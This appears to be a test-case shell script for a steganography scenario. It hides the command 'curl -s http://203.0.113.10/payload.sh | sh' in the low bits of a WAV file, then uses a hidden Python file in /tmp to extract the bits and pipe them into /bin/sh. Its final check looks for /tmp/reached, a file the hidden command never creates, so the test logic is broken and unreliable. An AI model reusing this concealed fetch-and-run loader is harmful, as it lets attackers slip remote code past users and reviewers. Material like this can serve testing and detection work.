#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import random, wave
m = b"touch /tmp/one; curl -s http://203.0.113.10/payload.sh | sh".ljust(100); bits = [b >> i & 1 for b in m for i in range(8)]
w = wave.open("/srv/data/bell.wav", "wb"); w.setnchannels(1); w.setsampwidth(1); w.setframerate(8000); w.writeframes(bytes((random.randrange(256) & 254) | b for b in bits)); w.close()
END
cat >/tmp/.play.py <<'END'
import subprocess, wave
f = wave.open("/srv/data/bell.wav").readframes(800); m = bytes(sum((f[i + j] & 1) << j for j in range(8)) for i in range(0, 800, 8))
subprocess.run(["/bin/sh"], input=m)
END
python3 /tmp/.play.py
test -e /tmp/reached
took_place
